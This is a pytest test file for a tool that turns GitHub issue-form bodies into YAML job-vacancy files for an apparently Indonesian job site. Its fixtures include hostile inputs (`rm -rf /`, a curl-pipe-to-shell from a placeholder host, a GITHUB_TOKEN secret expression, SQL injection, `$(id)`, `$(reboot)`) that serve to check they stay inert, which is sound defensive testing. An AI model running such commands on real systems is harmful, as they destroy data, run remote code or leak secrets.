"""Vacancies proposed with the issue form: saved issue bodies become the expected files, bad ones a clear comment."""

from __future__ import annotations

import json
import shutil
from datetime import date
from pathlib import Path

import pytest
import yaml
from support import make_repo

from antarkerja.cli import main
from antarkerja.issueform import FIELDS, convert_issue, issue_form, label_of
from antarkerja.reference import load_reference
from antarkerja.schema import vacancy as vacancy_schema

ISSUES = Path(__file__).resolve().parent / "fixtures" / "issues"
TODAY = date(2026, 11, 25)
OFFICES = Path(__file__).resolve().parent / "fixtures" / "site" / "content" / "offices"


@pytest.fixture
def repo(tmp_path):
    offices = {p.name: p.read_text(encoding="utf-8") for p in OFFICES.glob("*.yml")}
    return make_repo(tmp_path, offices=offices)


def _convert(repo, name, number=7):
    return convert_issue(repo, (ISSUES / name).read_bytes().decode("utf-8"), TODAY, number)


def _written(repo) -> list[Path]:
    return sorted((repo / "content/vacancies").rglob("*"))


@pytest.mark.parametrize(
    "name, path",
    [
        ("operator-produksi", "jawa-barat/operator-produksi-pt-contoh-sinar-plastik-bekasi.yml"),
        ("juru-masak-crlf", "jawa-barat/juru-masak-cv-contoh-rasa-priangan-bandung.yml"),
    ],
)
def test_issue_bodies_become_the_expected_files(repo, name, path):
    result = _convert(repo, f"{name}.md")
    assert result.ok, result.problems
    assert result.path == repo / "content/vacancies" / path
    expected = (ISSUES / f"{name}.expected.yml").read_text(encoding="utf-8")
    assert result.path.read_text(encoding="utf-8") == expected.replace("issue #42", "issue #7")
    assert main(["fmt", "--check", "--root", str(repo), str(result.path)]) == 0


def test_an_issue_opened_with_the_old_deadline_heading_still_converts(repo):
    body = (ISSUES / "operator-produksi.md").read_text(encoding="utf-8")
    assert "### Batas lamaran" in body
    result = convert_issue(repo, body.replace("### Batas lamaran", "### Berlaku sampai"), TODAY, 7)
    assert result.ok, result.problems
    assert "valid_through: 2027-01-" in result.path.read_text(encoding="utf-8")


def test_hostile_text_in_long_answers_stays_inert_text(repo):
    result = _convert(repo, "hostile-description.md")
    assert result.ok, result.problems
    data = yaml.safe_load(result.path.read_text(encoding="utf-8"))
    assert "`rm -rf /` $(curl http://contoh.invalid/x | sh) ${{ secrets.GITHUB_TOKEN }}" in data["description"]
    assert data["apply"]["instructions"] == 'Bawa KTP\'; DROP TABLE lowongan; -- "kutip" | tee'
    assert [p.name for p in _written(repo) if p.is_file()] == [result.path.name]


@pytest.mark.parametrize(
    "name, says",
    [
        ("bad-path-title.md", "**Nama jabatan**: berisi karakter yang tidak lazim"),
        ("bad-shell-employer.md", "**Nama pemberi kerja**: berisi karakter yang tidak lazim"),
        ("bad-missing-section.md", "Bagian **Nama jabatan** tidak ditemukan"),
        ("bad-no-response.md", "**Jumlah lowongan** wajib diisi"),
        ("bad-impossible-date.md", "tanggal `2027-02-30` tidak ada di kalender"),
        ("bad-values.md", "`lima belas` bukan bilangan bulat"),
        ("bad-values.md", "kabupaten/kota `99.99` tidak dikenal"),
        ("bad-values.md", "pilihan `SMK jurusan apa saja` tidak dikenal"),
        ("bad-unknown-office.md", "kantor `disnaker-entah-mana` tidak ada"),
        ("bad-validator.md", "**Deskripsi** (R401): meminta uang dari pelamar"),
        ("bad-duplicate-section.md", "Bagian **Nama jabatan** muncul dua kali"),
        ("bad-empty.md", "Bagian **Deskripsi** tidak ditemukan"),
    ],
)
def test_bad_issues_are_refused_with_a_clear_message_and_no_file(repo, name, says, tmp_path):
    comment_file = tmp_path / "comment.md"
    code = main(
        ["issue", "--body", str(ISSUES / name), "--number", "7", "--today", "2026-11-25"]
        + ["--root", str(repo), "--comment", str(comment_file)]
    )
    assert code == 1
    comment = comment_file.read_text(encoding="utf-8")
    assert comment.startswith("❌ **Lowongan belum bisa dibuat.**") and says in comment
    assert not [p for p in _written(repo) if p.is_file()]
    assert not (repo / ".github").exists()


def test_event_file_gives_body_number_outputs_and_comment(repo, tmp_path):
    event = tmp_path / "event.json"
    body = (ISSUES / "operator-produksi.md").read_text(encoding="utf-8")
    event.write_text(json.dumps({"issue": {"number": 42, "title": "$(id)", "body": body}}), encoding="utf-8")
    output, comment = tmp_path / "out", tmp_path / "comment.md"
    args = [str(event), "--today", "2026-11-25", "--comment", str(comment), "--github-output", str(output)]
    assert main(["issue", *args, "--root", str(repo)]) == 0
    path = "content/vacancies/jawa-barat/operator-produksi-pt-contoh-sinar-plastik-bekasi.yml"
    lines = output.read_text(encoding="utf-8").splitlines()
    assert lines == [f"path={path}", "title=Lowongan baru: Operator Produksi – PT Contoh Sinar Plastik"]
    assert (repo / path).read_text(encoding="utf-8") == (ISSUES / "operator-produksi.expected.yml").read_text()
    assert f"Berkas `{path}` dibuat" in comment.read_text(encoding="utf-8")
    # The same issue labelled again gets its own file name rather than overwriting.
    assert main(["issue", *args, "--root", str(repo)]) == 0
    assert "bekasi-42.yml" in output.read_text(encoding="utf-8")


def test_event_without_a_body_gets_a_comment_not_a_crash(repo, tmp_path):
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"issue": {"number": 3, "body": None}}), encoding="utf-8")
    comment = tmp_path / "c.md"
    assert main(["issue", str(event), "--comment", str(comment), "--root", str(repo)]) == 1
    assert "tidak ditemukan" in comment.read_text(encoding="utf-8")


def test_issue_form_is_generated_from_the_schema(root):
    form = yaml.safe_load((root / ".github/ISSUE_TEMPLATE/lowongan.yml").read_text(encoding="utf-8"))
    ref = load_reference(root)
    assert form == issue_form(ref)
    elements = {e["id"]: e for e in form["body"] if "id" in e}
    labels = [e["attributes"]["label"] for e in elements.values()]
    assert len(labels) == len(set(labels)), "GitHub needs unique labels"
    education = elements["education"]
    assert education["type"] == "dropdown" and "SMK/MAK" in education["attributes"]["options"]
    assert education["validations"]["required"] is True
    assert elements["title"]["attributes"]["label"] == "Nama jabatan"
    assert "tanpa nama perusahaan" in elements["title"]["attributes"]["description"]
    assert elements["benefits"]["validations"]["required"] is False
    schema = vacancy_schema.schema(ref)
    for f in FIELDS:
        if f.required:
            assert elements[f.key]["validations"]["required"], label_of(f, schema)


def test_schema_check_catches_a_stale_issue_form(tmp_path, root):
    from antarkerja.schema.export import write_all

    for name in ("content/reference",):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).symlink_to(root / name)
    for name in ("CONTRIBUTING.md", "content/schema", ".github"):
        src, dst = root / name, tmp_path / name
        shutil.copytree(src, dst) if src.is_dir() else shutil.copy(src, dst)
    assert write_all(tmp_path, check=True) == []
    form = tmp_path / ".github/ISSUE_TEMPLATE/lowongan.yml"
    form.write_text(form.read_text(encoding="utf-8").replace("SMK/MAK", "SMK"), encoding="utf-8")
    assert write_all(tmp_path, check=True) == [form]


@pytest.mark.parametrize(
    "body",
    [
        "### Nama jabatan",
        "### Nama jabatan\n\n\x00\x1b[31m\u202e\n### Deskripsi\n\n" + "x" * 70000,
        "Tidak ada judul bagian sama sekali.\n\n$(reboot)",
        "### Nama jabatan\n\n### Nama pemberi kerja\n\n### Nama jabatan\n\n",
        "\ufeff### Jumlah lowongan\r\n\r\n-1\r\n",
    ],
)
def test_garbage_bodies_get_a_message_never_a_crash(repo, body):
    result = convert_issue(repo, body, TODAY, 9)
    assert not result.ok and result.problems
    assert all(isinstance(p, str) and p for p in result.problems)
    assert not [p for p in _written(repo) if p.is_file()]
